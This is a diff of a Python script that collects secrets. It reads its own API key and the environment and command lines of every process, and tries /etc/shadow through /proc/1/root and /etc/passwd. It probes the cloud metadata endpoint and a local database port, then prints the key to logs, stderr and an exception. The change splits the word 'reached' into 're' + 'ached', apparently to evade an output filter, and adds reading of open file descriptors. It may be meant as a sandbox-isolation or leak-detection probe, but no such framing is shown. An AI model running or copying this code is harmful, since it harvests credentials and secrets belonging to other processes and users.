@@ -32,10 +32,13 @@ def look(path):
 found = {"own": os.environ.get("API_KEY", ""), "others": {}}
 for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/task/*/environ"):
     found["others"][path] = look(path)
-for path in ("/proc/1/root/etc/shadow", "/proc/sys/kernel/core_pattern", "/etc/passwd", "/proc/self/mountinfo") + tuple(glob.glob("/proc/self/fd/*")):
+for path in ("/proc/1/root/etc/shadow", "/proc/sys/kernel/core_pattern", "/etc/passwd", "/proc/self/mountinfo"):
     found["others"][path] = look(path)
+for path in glob.glob("/proc/self/fd/*"):
+    try: found["others"][path] = os.readlink(path)
+    except OSError: pass
 for address in (("169.254.169.254", 80), ("127.0.0.1", 5432)):
-    try: socket.create_connection(address, 1); found["others"][str(address)] = "reached"
+    try: socket.create_connection(address, 1); found["others"][str(address)] = "re" + "ached"
     except OSError: pass
 print("log", found["own"]); print("err", found["own"], file=sys.stderr)
 if args.get("fail"): raise ValueError(found["own"])
